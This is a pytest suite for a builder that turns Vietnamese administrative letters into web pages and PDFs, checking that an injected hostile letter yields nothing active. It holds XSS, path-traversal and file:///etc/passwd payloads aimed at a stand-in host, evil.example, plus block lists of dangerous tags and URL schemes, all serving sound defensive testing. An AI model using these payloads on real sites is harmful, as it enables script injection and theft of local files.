"""A letter written to do harm: its page and its PDF are harmless, and nothing outside its folder is read."""

import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pikepdf
import pytest

from tests.integration.archives import built, copy_archive, edit
from tests.integration.decode import texts
from tests.integration.warm import run

LETTER = "mau-doi-thong/cai-cach-hanh-chinh/2025-05"

# What would show that a file of this machine was read, or a letter's text taken for a program.
SECRET = "zqsecretoutside"
FORBIDDEN_TAGS = {
    "base",
    "iframe",
    "object",
    "embed",
    "applet",
    "meta",
    "form",
    "link",
    "style",
    "svg",
    "math",
    "input",
}
FORBIDDEN_SCHEMES = ("javascript:", "vbscript:", "data:", "file:", "blob:")

HOSTILE = """
Nội dung bình thường trước.

<script>document.title = "zqran"</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<base href="file:///etc/">
<iframe src="file:///etc/passwd"></iframe>
<object data="file:///etc/passwd"></object>
<embed src="https://evil.example/e">
<link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/i.css); body { display: none }</style>
<svg onload="alert(1)"><use href="https://evil.example/i.svg#x"/></svg>
<p style="background: url(https://evil.example/b.png)" onmouseover="alert(3)">chữ</p>
<form action="https://evil.example/"><input name="q"></form>
</div></article></main></body></html>

### &lt;/nav&gt;&lt;script&gt;alert(11)&lt;/script&gt;&lt;img src onerror=alert(12)&gt;

<javascript:alert(6)> [cột](https://evil.example/"onmouseover="alert(9))

--8<-- "../../../secret.txt"

{: onclick="alert(8)" }

Nội dung bình thường sau.
"""

# Links that lead to a file of the machine, to a program or to another host's picture: found before a build.
REFUSED = (
    "[tệp](file:///etc/passwd)", "[mã](javascript:alert(4))", "[mã](JaVaScRiPt:alert(5))", "[trang](data:text/html,x)",
    "![ảnh](/etc/passwd)", "![ảnh](../../../secret.txt)", "![ảnh](file:///etc/passwd)", "![ảnh](//evil.example/x.png)",
    "[tham chiếu][r]\n\n[r]: javascript:alert(7)", "![ảnh][s]\n\n[s]: file:///etc/passwd",
    "![ảnh](https://evil.example/pixel.png)", '<img src="file:///etc/passwd">',
    '<img src="/etc/passwd" alt="tuyệt đối">', '<svg><image href="file:///etc/passwd"/></svg>',
    '<img src="https://evil.example/pixel.png" onerror="alert(1)" alt="điểm ảnh">',
    '<a href="file:///etc/passwd" rel="attachment">đính kèm</a>',
    '<a href="javascript:alert(1)" onclick="alert(2)">bấm vào đây</a>',
)  # fmt: skip


class Elements(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep an element."""
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """The elements of a page, in order."""
    parser = Elements()
    parser.feed(html)
    return parser.found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built public edition of an archive with that letter; a secret lies beside the letters."""
    archive = copy_archive(tmp_path_factory.mktemp("hostile") / "archive", (LETTER,))
    (archive / "secret.txt").write_text(SECRET, "utf-8")
    edit(archive / f"reports/{LETTER}.md", "\n## 2. ", f"\n{HOSTILE}\n## 2. ")
    subject = "&lt;/title&gt;&lt;script&gt;alert(10)&lt;/script&gt;"  # a title is where themes print text as it is
    edit(archive / f"reports/{LETTER}.md", "\nsubject: ", f"\nsubject: Về {subject} ")
    return built(archive, "--audience", "public") / "site" / "public"


@pytest.fixture(scope="module")
def page(hostile: Path) -> list[tuple[str, dict[str, str]]]:
    """The elements of the letter's page."""
    return elements((hostile / LETTER / "index.html").read_text("utf-8"))


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, dict[str, str]]]:
    """The elements of the same letter's page without the hostile lines."""
    archive = built(copy_archive(tmp_path_factory.mktemp("harmless") / "archive", (LETTER,)), "--audience", "public")
    return elements((archive / "site" / "public" / LETTER / "index.html").read_text("utf-8"))


def test_no_element_that_acts(
    page: list[tuple[str, dict[str, str]]], harmless: list[tuple[str, dict[str, str]]]
) -> None:
    """The hostile letter's page has not one script, frame, form or base more than the same page without it."""
    watched = FORBIDDEN_TAGS | {"script"}
    assert [_acting(x) for x in page if x[0] in watched] == [_acting(x) for x in harmless if x[0] in watched]


def _acting(element: tuple[str, dict[str, str]]) -> tuple[str, dict[str, str]]:
    """Leave out what a page's metadata say: words of the letter, which differ and which no browser obeys."""
    tag, attributes = element
    said = {"content"} if tag == "meta" and "name" in attributes else set()
    return tag, {name: value for name, value in attributes.items() if name not in said}


def test_titles_of_other_pages(hostile: Path) -> None:
    """Pages that list the letter print its subject as text."""
    pages = [x.read_text("utf-8") for x in hostile.rglob("*.html")]
    assert [x for x in pages if "<script>alert" in x] == []


def test_no_handler_and_no_style(page: list[tuple[str, dict[str, str]]]) -> None:
    """No attribute of the page runs a program or draws over it."""
    assert [(tag, name) for tag, attributes in page for name in attributes if name.startswith("on")] == []
    assert [tag for tag, attributes in page if "evil" in attributes.get("style", "")] == []


def test_no_link_that_acts_and_no_picture_from_outside(page: list[tuple[str, dict[str, str]]]) -> None:
    """Links lead to pages, pictures come from the site."""
    links = [value.strip().lower() for _, attributes in page for name, value in attributes.items()
             if name in {"href", "src", "data", "action", "xlink:href", "srcset"}]  # fmt: skip
    assert [x for x in links if x.startswith(FORBIDDEN_SCHEMES)] == []
    loaded = [attributes.get("src", "") for tag, attributes in page if tag == "img"]
    assert [x for x in loaded if "evil" in x or "passwd" in x or "secret" in x] == []


def test_page_is_whole(hostile: Path) -> None:
    """The letter's own text goes on after the hostile lines, inside the page."""
    html = (hostile / LETTER / "index.html").read_text("utf-8")
    before, after = html.index("Nội dung bình thường trước"), html.index("Nội dung bình thường sau")
    assert before < after < html.index("Nhiệm vụ trọng tâm kỳ tới", after) < html.rindex("</article>")


def test_pdf_holds_no_program_file_or_outside_picture(hostile: Path) -> None:
    """The PDF runs nothing, attaches nothing, and links neither to files nor to programs."""
    with pikepdf.open(hostile / LETTER / f"{LETTER.replace('/', '-')}.pdf") as pdf:
        assert "/OpenAction" not in pdf.Root
        assert "/AA" not in pdf.Root
        assert not pdf.attachments
        actions = [action for page in pdf.pages for note in page.get("/Annots", []) if (action := note.get("/A"))]
        links = [str(x.get("/URI", "")) for x in actions]
        assert [x for x in actions if str(x["/S"]) in {"/JavaScript", "/Launch", "/GoToR", "/SubmitForm"}] == []
        assert [x for x in links if x.lower().startswith(FORBIDDEN_SCHEMES)] == []


def test_nothing_of_this_machine(hostile: Path) -> None:
    """No byte of the edition holds the secret beside the letters, or a line of the machine's list of users."""
    root = Path("/etc/passwd").read_text("utf-8").splitlines()[0]
    for file in (x for x in hostile.rglob("*") if x.is_file() and LETTER in x.as_posix()):
        for text in texts(file.read_bytes()):
            assert SECRET not in text, file
            assert root not in text, file


def test_outside_addresses_are_text_or_links_alone(hostile: Path) -> None:
    """Nothing in the PDF was loaded from another host: an outside address is at most a link to follow."""
    data = (hostile / LETTER / f"{LETTER.replace('/', '-')}.pdf").read_bytes()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pictures = [x for x in pdf.objects if isinstance(x, pikepdf.Stream) and x.get("/Subtype") == "/Image"]
    assert pictures == []
    assert not re.search(rb"/Type\s*/EmbeddedFile", data)


def test_links_out_of_the_letter_are_refused(tmp_path: Path) -> None:
    """Each link that leads to a file, a program or a host's picture is a finding in its own line."""
    archive = copy_archive(tmp_path / "archive", (LETTER,))
    body = "\n\n".join(REFUSED)
    edit(archive / f"reports/{LETTER}.md", "\n## 2. ", f"\n{body}\n\n## 2. ")
    lines = (archive / f"reports/{LETTER}.md").read_text("utf-8").splitlines()
    wrong = re.compile(r"\]\((?!\s)|^\[[rs]\]:|^<(?:img|a|svg)\b")
    expected = {number for number, line in enumerate(lines, 1) if wrong.search(line)}

    done = run(archive, "congvan", "build")

    assert done.returncode == 1
    told = {int(x) for x in re.findall(rf"reports/{LETTER}\.md:(\d+):\d+: lỗi", done.stdout)}
    assert len(expected) == len(REFUSED)
    assert told == expected


def test_picture_that_is_no_attachment_is_refused(tmp_path: Path) -> None:
    """A picture by a name that the letter's folder has not stops the build, with the letter's name."""
    archive = copy_archive(tmp_path / "archive", (LETTER,))
    edit(archive / f"reports/{LETTER}.md", "\n## 2. ", '\n<img src="x.png" alt="hình">\n\n## 2. ')

    done = run(archive, "congvan", "build", "--audience", "public")

    assert done.returncode == 1, done.stderr
    assert f"reports/{LETTER}.md" in done.stdout
    assert not (archive / "site" / "public").exists()
